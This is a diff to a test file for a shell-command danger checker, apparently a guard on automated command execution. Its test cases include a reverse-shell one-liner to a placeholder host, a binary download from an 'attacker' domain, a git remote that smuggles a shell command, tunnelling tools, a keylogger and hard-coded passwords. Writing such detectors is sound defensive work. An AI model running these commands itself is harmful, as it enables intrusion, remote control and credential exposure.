@@ -747,7 +747,7 @@ describe('checkCommand on sessions elsewhere, scans, keys, capabilities, raw dis
     ['ansible-test shell --docker', true, 'interactive session'],
     ['ansible-test sanity --docker', false],
     ['vagrant ssh', true, 'interactive session'],
-    ['vagrant up', false],
+    ['vagrant status', false],
     // scans
     ['nmap -sV scanme.example.org', true, 'scans the ports'],
     ['nc -z -w 2 host 20-25', true, 'scans the ports'],
@@ -937,7 +937,7 @@ describe('checkCommand on boot images, Windows packages, forge workflows, test b
     ['git -c core.hooksPath=.githooks commit -m x', true, 'core.hooksPath'],
     // a remote added by URL cannot move an existing one; a command transport or a new URL for one can
     ['git remote add src https://github.com/nushell/nushell.git', false],
-    ['git remote add evil https://evil.example/x.git', false],
+    ['git remote add upstream https://other.example/x.git', false],
     ['git remote add origin https://github.com/terser/terser.git', true, 'fetches and pushes'],
     ['git remote add x "ext::sh -c id"', true, 'command'],
     ['git remote set-url origin https://example.com/x.git', true, 'fetches and pushes'],
@@ -1622,7 +1622,8 @@ describe('checkCommand on directory and mail URLs, ports by service name, releas
     ["curl -k --ntlm -u 'CORP\\\\john:pass' https://mail.corp.example/OAB/oab.xml > oab.xml", true, 'a Windows domain account'],
     ['curl --negotiate -u : https://intranet.corp.example/', true, 'a Windows domain account'],
     ['curl --ntlm --version', false],
-    ['curl -u admin:admin https://example.com/status', false],
+    ['curl -u admin:admin https://example.com/status', true, 'password written in the command'],
+    ['curl -u "$API_USER:" https://example.com/status', false],
     // PowerShell's options by any prefix and case: -Command and -EncodedCommand run code, -File a script; the rest are data
     ['pwsh -noprofile ./build.ps1', false],
     ['pwsh -WorkingDirectory . -ExecutionPolicy Bypass -File ./build.ps1', false],
@@ -3527,6 +3528,85 @@ describe('the six sets held out last stop and the hundred-and-second, -third and
     // The code's analysis sent to a SonarQube server.
     ['./gradlew :check :sonarqube --stacktrace --no-daemon', true, 'analysis server'],
     ['./gradlew check', false],
+    // A placeholder inside a word is no redirection: the template is the only reading; one with spaces is read too.
+    ['git clone https://github.com/<your-username>/cli.git', false],
+    ['curl -u admin:12345 http://<ip>/ISAPI/Security/users', true, 'password written in the command'],
+    ['/bin/bash -i >& /dev/tcp/<your ip>/<your port> 0>&1', true, 'through the shell'],
+    ['sort <in.txt >out.txt', false],
+    // A password given to curl apart from the URL logs in as one in the URL does; this machine's own server is not another.
+    ['curl --digest -u admin:12345 http://192.0.2.7/ISAPI/Security/users', true, 'password written in the command'],
+    ['curl -u admin:pw http://localhost:8080/api', false],
+    // cmake building its install target installs as `cmake --install` does.
+    ['cmake --build . --target install', true, 'outside the workspace'],
+    ['cmake --build . --target all', false],
+    // Tunnels by their release names, and localtunnel; Neo-reGeorg writing its server scripts here is not one.
+    ['./iox fwd -l 1080 -r *VPS:9999 -k 000102', true, 'tunnel or proxy'],
+    ['./ew -s rcsocks -l 1080 -e 9999', true, 'tunnel or proxy'],
+    ['npx localtunnel --port 8000', true, 'tunnel or proxy'],
+    ['python neoreg.py generate -k password', false],
+    ['python neoreg.py -k password -u http://203.0.113.9/tunnel.php', true, 'proxy or tunnel'],
+    // A shell kept privileged, a telnet server, programs run from memory or named as kernel threads.
+    ['bash -p', true, 'set-user-ID'],
+    ['bash script.sh -p 8080', false],
+    ['busybox telnetd -F', true, 'listens for one'],
+    ['cat /bin/ls | ulexecve - -lha', true, 'from memory'],
+    ["exec ./zapper -f -a'[kworker/1:2-cgroup_destroy]' tmux", true, 'kernel thread'],
+    ['python3 .terminal-keylogger.py', true, 'records the keys'],
+    ['./cnc > /dev/null 2>&1 &', true, 'command-and-control'],
+    // A machine its name calls the attacker's or the victim's.
+    ['wget -O 4 https://attacker.com/binary.elf', true, "attacker's or the victim's"],
+    ['./client.py victim_ip:port', true, "attacker's or the victim's"],
+    ['git clone https://github.com/parsiya/evil-electron', false],
+    // The user's shell, dotfiles and their plugins; listings and diffs read.
+    ['chezmoi init --apply https://github.com/someone/dotfiles.git', true, 'dotfiles'],
+    ['chezmoi diff', false],
+    ['fisher install jorgebucaran/nvm.fish', true, 'dotfiles'],
+    ['fisher list', false],
+    ['NO_COLOR=1 zimfw install', true, 'dotfiles'],
+    ['firecfg --fix-sound', true, 'dotfiles'],
+    ['git clone https://github.com/spaceship-prompt/spaceship-prompt.git "$ZSH_CUSTOM/themes/spaceship-prompt" --depth=1', true, 'home directory'],
+    ['mv $__fish_config_dir/themes $__fish_config_dir/themes.bak', true, 'home directory'],
+    // A release script asked for a step that stays here.
+    ['./maint/release build tarball rcm-*.tar.gz', false],
+    ['./maint/release', true, 'publishing or deploying'],
+    ['node extra/release/build-and-upload-assets.mjs', true, 'publishing or deploying'],
+    // Patch stacks push patches onto the working tree.
+    ['quilt push -a', false],
+    // Audit reports read the audit log.
+    ['ausearch --start this-week -m user_login --raw | aureport --host --summary', false],
+    ['vite --host', true, 'every network interface'],
+    // A web path given to an option for one names no file; a capture file's addresses pick out packets.
+    ['pypi-server run --health-endpoint /action/health', false],
+    ['netflows capture.pcap --source-ip 192.168.1.100', false],
+    // JFrog's uploads, publishes and deploys; its builds and searches.
+    ['jf rt bp', true, 'changes infrastructure'],
+    ['jf mvn install deploy', true, 'changes infrastructure'],
+    ['jf mvn clean install', false],
+    ['jf rt dl "repo/*"', false],
+    ['twine register dist/*.tar.gz', true, 'publishes'],
+    ['snapcraft export-login --snaps=chezmoi -', true, 'reaches past this machine'],
+    // Installs for the user and global ones, as npm's -g.
+    ['pip3 install expliot --user', true, "user's Python"],
+    ['pip3 install --user -e .', false],
+    ['pnpm add -g typedoc', true, 'global prefix'],
+    ['yarn global add typescript', true, 'global prefix'],
+    // A Makefile's recipe names its tools as variables.
+    ['$(MAKE) -C $(deps) build', false],
+    ['$(GO) mod tidy', false],
+    // Container engines chosen by context, and containers brought back after every reboot.
+    ['docker context create remote --docker "host=ssh://root@198.51.100.8"', true, 'container engine'],
+    ['docker context ls', false],
+    ['docker run -d --restart=always --name kuma louislam/uptime-kuma', true, 'after every reboot'],
+    ['docker run --rm --restart=no alpine true', false],
+    // Grafana as code, Home Assistant's supervisor, Vagrant's machines.
+    ['grr apply my-lib.libsonnet', true, 'changes infrastructure'],
+    ['grr pull -d resources', false],
+    ['ha su reload', true, 'changes infrastructure'],
+    ['ha core info', false],
+    ['vagrant up --provider=libvirt', true, 'virtual machine'],
+    ['vagrant status', false],
+    ['losetup -fP disk.img', true, "machine's network"],
+    ['losetup -a', false],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
     expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
